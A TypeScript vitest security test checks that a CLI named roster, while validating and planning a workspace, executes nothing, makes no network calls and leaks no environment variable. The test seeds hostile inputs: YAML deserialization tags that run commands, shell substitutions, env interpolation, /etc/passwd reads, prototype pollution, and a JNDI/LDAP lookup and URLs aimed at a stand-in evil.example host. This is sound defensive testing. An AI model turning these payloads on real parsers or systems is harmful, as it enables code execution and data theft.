import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect, test } from 'vitest'
import { scratch, sweep } from '../../ledger/scratch.ts'

sweep()
const roster = fileURLToPath(new URL('../../../bin/roster.js', import.meta.url))
const record = fileURLToPath(new URL('record.cjs', import.meta.url))

/** What somebody may write into a file of the workspace, in the hope that it is run, fetched or filled in. */
const tricks: Readonly<Record<string, string>> = {
  tag: "ana: { name: !!js/function \"function () { require('child_process').exec('touch sprung') }\" }",
  newTag: 'ana: !!python/object/apply:os.system ["touch sprung"]',
  include: 'ana: !include /etc/passwd',
  shell: 'ana: { name: { first: "$(touch sprung)", last: "`touch sprung`" }, email: ana@acme.example }',
  variable:
    'ana: { name: { first: "${ACME_READ}", last: "$ACME_READ %ACME_READ% {{ env.ACME_READ }}" }, email: ana@acme.example }',
  file: 'ana: { name: { first: "file:///etc/passwd", last: Li }, email: ana@acme.example }',
  address: 'ana: { name: { first: "http://evil.example/x", last: "ldap://evil.example" }, email: ana@acme.example }',
  lookup: 'ana: { name: { first: "${jndi:ldap://evil.example/a}", last: Li }, email: ana@acme.example }',
  merge: 'base: &a { name: { first: A } }\nana: { <<: *a }',
  reference: 'ana: { $ref: "http://evil.example/schema.json" }',
  prototype: '__proto__: { name: { first: A } }\nconstructor: { name: { first: B } }',
}

test.each(Object.keys(tricks))('SEC-02 files start nothing, reach nothing and read no variable: %s', async (name) => {
  const folder = await scratch()
  const write = (path: string, text: string): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  write('roster.yaml', 'version: 1\n')
  write('package.json', '{ "scripts": { "preinstall": "touch sprung" }, "type": "commonjs" }')
  write('.rosterrc.js', "require('fs').writeFileSync('sprung', '')")
  write('roster.config.js', "require('fs').writeFileSync('sprung', '')")
  write('tenants/acme/tenant.yaml', 'name: Acme\ndirectories: { hq: { provider: local, mode: additive } }\n')
  write('tenants/acme/users.yaml', `${tricks[name]}\n`)
  const log = join(folder, 'recorded')
  writeFileSync(log, '')
  const env = { PATH: process.env['PATH'], RECORD: log, ACME_READ: 'canary-5b1f' }
  for (const command of ['validate', 'plan']) {
    const args = ['--require', record, roster, '-C', folder, command]
    const ran = spawnSync(process.execPath, args, { cwd: folder, env, encoding: 'utf8' })
    expect([0, 3], ran.stderr).toContain(ran.status)
    expect(ran.stdout + ran.stderr).not.toContain('canary-5b1f')
  }
  // git is asked which commit the files are of, and nothing else.
  const others = readFileSync(log, 'utf8').split('\n').filter((line) => line !== '' && line !== 'child_process.spawn git') // prettier-ignore
  expect(others).toEqual([])
  expect(existsSync(join(folder, 'sprung'))).toBe(false)
})

test('SEC-02 the recorder would notice', async () => {
  const log = join(await scratch(), 'recorded')
  writeFileSync(log, '')
  const script = "import { spawnSync } from 'node:child_process'; import net from 'node:net'; spawnSync('true'); net.connect({ port: 1, host: '127.0.0.1' }).on('error', () => {})" // prettier-ignore
  spawnSync(process.execPath, ['--require', record, '--input-type=module', '-e', script], { env: { PATH: process.env['PATH'], RECORD: log } }) // prettier-ignore
  expect(readFileSync(log, 'utf8')).toBe('child_process.spawnSync true\nnet.connect object\n')
})
